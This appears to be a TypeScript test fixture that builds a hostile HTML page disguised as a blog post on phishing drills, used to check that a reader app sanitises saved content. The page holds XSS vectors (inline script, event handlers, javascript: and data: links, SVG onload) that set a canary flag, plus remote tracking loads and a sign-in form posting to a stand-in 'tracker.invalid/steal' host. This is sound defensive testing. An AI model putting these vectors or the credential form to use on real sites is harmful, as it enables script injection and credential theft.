import { GROUP_PATH } from './khub';

/**
 * A Knowledge Hub post written to attack whoever saves it: an inline script, event handlers,
 * javascript: and data: links, an iframe, a form, remote-loading CSS and SVG. Every attack sets
 * `window.__instalmentsPwned` if it ever runs where it should not: in Instalments' reader.
 * It is not in the group's listing; tests open it by its address.
 */
export const HOSTILE_PATH = `${GROUP_PATH}/phishing-drill-1`;
export const HOSTILE_TITLE = 'Phishing drill - Part 1';

const prose = [
  'Every quarter our security team runs a phishing drill, and every quarter a few more colleagues spot the fake. This series explains how we run them without making anyone feel foolish, and what the numbers tell us about where training actually works.',
  'We start from the messages real attackers sent us in the previous quarter. We strip anything that could cause harm, keep the tricks that fooled people, and send them to a random tenth of staff at unpredictable times over a fortnight.',
  'Nobody is named and nobody is shamed. A colleague who clicks sees a short page explaining what gave the message away, and a colleague who reports it gets a thank-you from a real person within a day.',
  'The measure we care about is not the click rate but the report rate: how quickly someone tells us, because that is what stops a real attack spreading. Over two years it has gone from one report in nine messages to one in three.',
];

export function hostilePage(): string {
  return `<!doctype html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>${HOSTILE_TITLE} - Digital Leaders - Knowledge Hub</title>
<style>@import url("https://tracker.invalid/track.css");</style>
</head>
<body>
<h1 class="site-title">Digital Leaders</h1>
<div class="portlet-blogs"><div class="widget-mode-detail">
<h3 class="title">${HOSTILE_TITLE}</h3>
<p><a class="username" href="/web/alex-carter">Alex Carter</a> <span class="text-secondary">Security Lead · 3 March 2025</span></p>
<div class="widget-mode-detail-text">
<p>${prose[0]}</p>
<script>window.__instalmentsPwned = 'inline script';</script>
<p>${prose[1]} <img src="/no-such-image.png" onerror="window.__instalmentsPwned = 'onerror'" alt="A broken image"></p>
<p>${prose[2]} <a href="javascript:window.__instalmentsPwned = 'javascript link'">Claim your prize</a>.</p>
<p>${prose[3]} <a href="data:text/html,<script>parent.__instalmentsPwned = 'data link'</script>">Open the report</a>.</p>
<p style="background: url(https://tracker.invalid/pixel.png)" onmouseover="window.__instalmentsPwned = 'onmouseover'">Hover over this paragraph, and <a href="https://khub.net/web/digital-leaders" onclick="window.__instalmentsPwned = 'onclick'">read more drills</a>.</p>
<iframe src="https://www.linkedin.com/pulse/phishing" title="Embedded"></iframe>
<form action="https://tracker.invalid/steal" method="post"><input type="text" name="user"><button>Sign in to continue</button></form>
<svg width="10" height="10" onload="window.__instalmentsPwned = 'svg onload'"><circle cx="5" cy="5" r="4"/></svg>
<p>Next time: <a href="${GROUP_PATH}/phishing-drill-2">Phishing drill - Part 2</a>.</p>
</div>
</div></div>
</body>
</html>`;
}
